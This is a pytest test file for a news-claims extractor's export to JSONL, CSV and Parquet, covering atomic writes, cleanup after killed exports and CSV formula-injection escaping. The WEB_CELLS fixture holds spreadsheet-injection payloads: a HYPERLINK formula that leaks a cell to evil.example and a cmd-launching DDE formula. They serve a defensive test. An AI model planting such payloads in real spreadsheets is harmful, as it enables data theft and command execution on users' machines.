"""Export of claims, articles and findings: contents per format, and atomic replacement."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from audit_claims import Story
from click.testing import CliRunner
from ingest_servers import SITE

import extractor.export as export_module
from extractor.cli import main
from extractor.export import columns, export
from extractor.ingest.html import parse_article
from extractor.ingest.run import extract_claims
from extractor.models import Claim, claim_id
from extractor.store import Store

PAGES = ["bitcoin-liquidations", "ether-etf-outflows", "solana-dex-volume"]


def _scale_slip_stories():
    """Three outlets on one day's ETF outflows; one slips a scale word ($434 billion)."""
    texts = [
        ("s1", "Coin Ledger", "Spot bitcoin ETFs had net outflows of $434 million on Thursday."),
        ("s2", "Other Wire", "Investors pulled $434 billion from US bitcoin funds on Thursday."),
        ("s3", "Third Desk", "Bitcoin ETF redemptions reached $434 million, a fourth day running."),
    ]
    for story_id, publisher, sentence in texts:
        quote = "$434 billion" if "billion" in sentence else "$434 million"
        value = 434e9 if "billion" in sentence else 434e6
        story = Story(story_id, publisher).say(sentence)
        claim = story.claim(quote, value, metric="etf_flow", side="outflow", asset="BTC")
        yield story.article(), [claim]


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    """Three fixture pages with extracted claims, and three stories with a scale slip."""
    path = tmp_path_factory.mktemp("export") / "news.db"
    with Store(path) as store:
        for name in PAGES:
            html = (SITE / f"{name}.html").read_bytes()
            article = parse_article(html, f"https://news.example/{name}.html")
            store.save_article(article, extract_claims(article))
        for article, claims in _scale_slip_stories():
            store.save_article(article, claims)
    return path


def _count(db, table):
    with Store(db) as store:
        return len(list(export_module.table_rows(store, table)))


@pytest.mark.parametrize("table", ["claims", "articles"])
def test_jsonl_rows_are_the_stored_records(db, tmp_path, table):
    out = tmp_path / f"{table}.jsonl"
    with Store(db) as store:
        written = export(store, table, "jsonl", out)
        stored = list(store.claims()) if table == "claims" else list(store.articles())
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert written == len(rows) == len(stored) > 0
    if table == "claims":
        assert [Claim.model_validate(r) for r in rows] == stored
    else:
        assert [r["id"] for r in rows] == [a.id for a in stored]
        assert all(r["text"] for r in rows)


@pytest.mark.parametrize("table", ["claims", "articles", "findings"])
def test_csv_has_the_columns_and_one_row_per_record(db, tmp_path, table):
    out = tmp_path / f"{table}.csv"
    with Store(db) as store:
        written = export(store, table, "csv", out)
    with out.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        assert reader.fieldnames == columns(table)
    assert written == len(rows) == _count(db, table)


@pytest.mark.parametrize("table", ["claims", "articles", "findings"])
def test_parquet_has_the_columns_and_rows(db, tmp_path, table):
    out = tmp_path / f"{table}.parquet"
    with Store(db) as store:
        written = export(store, table, "parquet", out)
    parquet = pq.read_table(out)
    assert parquet.column_names == columns(table)
    assert parquet.num_rows == written == _count(db, table)


def test_findings_audit_the_stored_claims(db, tmp_path):
    out = tmp_path / "findings.jsonl"
    with Store(db) as store:
        export(store, "findings", "jsonl", out)
    findings = [json.loads(line) for line in out.read_text().splitlines()]
    slips = [f for f in findings if f["verdict"] == "scale_error"]
    assert [[c["quote"] for c in f["claims"] if c["role"] == "suspect"] for f in slips] == [
        ["$434 billion"]
    ]
    assert slips[0]["supported_value"] == 434e6


def test_empty_table_still_has_its_columns(tmp_path):
    with Store(tmp_path / "empty.db") as store:
        assert export(store, "claims", "parquet", tmp_path / "c.parquet") == 0
        assert export(store, "claims", "csv", tmp_path / "c.csv") == 0
    assert pq.read_table(tmp_path / "c.parquet").column_names == columns("claims")
    assert (tmp_path / "c.csv").read_text().strip().split(",") == columns("claims")


def test_a_failed_export_leaves_the_old_file_and_no_temp_file(db, tmp_path, monkeypatch):
    out = tmp_path / "claims.jsonl"
    out.write_text("previous export\n")

    def broken(handle, rows):
        handle.write("half a line")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_module, "_jsonl", broken)
    with Store(db) as store, pytest.raises(OSError, match="No space left"):
        export(store, "claims", "jsonl", out)
    assert out.read_text() == "previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["claims.jsonl"]


def _big_store(path: Path, claims: int) -> None:
    text = "Bitcoin ETFs took in $1.02 billion on Monday, SoSoValue data show. " * 40
    with Store(path) as store:
        for n in range(claims // 40):
            article_id = f"a{n:05d}"
            article = parse_article(f"<p>{text} Story {n}.</p>", f"https://wire.example/{n}")
            article = article.model_copy(update={"id": article_id})
            spans = [(i * 68 + 21, i * 68 + 34) for i in range(40)]
            rows = [
                Claim(
                    id=claim_id(article_id, s + 1, e + 1),
                    article_id=article_id,
                    quote=article.text[s + 1 : e + 1],
                    start=s + 1,
                    end=e + 1,
                    sentence=text[:67],
                    value=1.02e9,
                    unit="USD",
                    low=None,
                    high=None,
                    metric="etf_flow",
                    source="SoSoValue",
                )
                for s, e in spans
            ]
            store.save_article(article, rows)


@pytest.fixture(scope="module")
def big_db(tmp_path_factory):
    path = tmp_path_factory.mktemp("big") / "big.db"
    _big_store(path, 20_000)
    return path


@pytest.mark.parametrize("kill_delay", [0.05, 0.3, 0.6])
def test_sigkill_during_export_leaves_old_or_new_file_never_torn(big_db, tmp_path, kill_delay):
    db = big_db
    out = tmp_path / "claims.jsonl"
    out.write_text('{"old": true}\n')
    command = [sys.executable, "-m", "extractor", "export", "--db", str(db)]
    command += ["--table", "claims", "--format", "jsonl", "-o", str(out)]
    process = subprocess.Popen(command, stderr=subprocess.PIPE)
    time.sleep(kill_delay)
    process.send_signal(signal.SIGKILL)
    process.wait()
    lines = out.read_text().splitlines()
    assert lines == ['{"old": true}'] or (
        len(lines) == 20_000 and all(json.loads(line)["metric"] == "etf_flow" for line in lines)
    )


def test_cli_export_and_missing_store(db, tmp_path):
    runner = CliRunner()
    out = tmp_path / "a.csv"
    ok = runner.invoke(
        main, ["export", "--db", str(db), "--table", "articles", "--format", "csv", "-o", str(out)]
    )
    assert ok.exit_code == 0, ok.output
    assert f"6 articles written to {out}" in ok.output
    missing = runner.invoke(
        main, ["export", "--db", str(tmp_path / "none.db"), "--table", "claims", "-o", str(out)]
    )
    assert missing.exit_code == 2
    assert "no such store" in missing.output
    assert not (tmp_path / "none.db").exists()


def test_killed_exports_leave_no_part_file_after_the_next_export(big_db, tmp_path):
    out = tmp_path / "claims.jsonl"
    command = [sys.executable, "-m", "extractor", "export", "--db", str(big_db)]
    command += ["--table", "claims", "-o", str(out)]
    for _ in range(2):
        process = subprocess.Popen(command, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 30
        while not list(tmp_path.glob(f".claims.jsonl.{process.pid}.*.part")):
            assert time.monotonic() < deadline and process.poll() is None
            time.sleep(0.01)
        process.send_signal(signal.SIGKILL)
        process.wait()
    # the second export removed the first one's leftover when it started
    assert [p.name.split(".")[3] for p in tmp_path.glob(".*.part")] == [str(process.pid)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["claims.jsonl"]


def test_a_part_file_of_a_running_export_is_left_alone(tmp_path):
    out = tmp_path / "claims.csv"
    running = tmp_path / f".claims.csv.{os.getpid()}.x1y2.part"
    gone = tmp_path / ".claims.csv.999999999.a1b2.part"
    other = tmp_path / ".articles.csv.999999999.c3d4.part"
    for path in (running, gone, other):
        path.write_text("partial")
    assert export_module.remove_stale_parts(out) == [gone]
    assert running.exists() and other.exists()


WEB_CELLS = [
    # publisher names, titles and quotes come from the web
    ('=HYPERLINK("http://evil.example/?"&A1,"CoinDesk")', "'=HYPERLINK"),
    ("+1-555-0100 Crypto Desk", "'+1-555-0100"),
    ("-$2.1 billion", "'-$2.1 billion"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
    ("\t=1+1", "'\t=1+1"),
    ("Coin Ledger = the best", "Coin Ledger = the best"),
]


@pytest.mark.parametrize(("publisher", "cell"), WEB_CELLS)
def test_csv_cells_from_the_web_never_start_a_formula(tmp_path, publisher, cell):
    story = Story("f1", publisher).say("Spot bitcoin ETFs had net outflows of $434 million.")
    claim = story.claim("$434 million", 434e6, metric="etf_flow", side="outflow", asset="BTC")
    with Store(tmp_path / "news.db") as store:
        store.save_article(story.article(), [claim])
        export(store, "claims", "csv", tmp_path / "claims.csv")
        export(store, "articles", "csv", tmp_path / "articles.csv")
    for name in ("claims.csv", "articles.csv"):
        with (tmp_path / name).open(newline="", encoding="utf-8") as handle:
            row = next(csv.DictReader(handle))
        assert row["publisher"].startswith(cell)
        assert row["publisher"][1:] == publisher or row["publisher"] == publisher
    with (tmp_path / "claims.csv").open(newline="", encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["value"] == "434000000.0"  # numbers stay numbers


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_to_stdout(db, fmt):
    result = CliRunner().invoke(
        main, ["export", "--db", str(db), "--table", "articles", "--format", fmt, "-o", "-"]
    )
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(result.stdout)))
    else:
        rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(rows) == 6 and all(row["text"] for row in rows)
    assert "6 articles written to stdout" in result.stderr
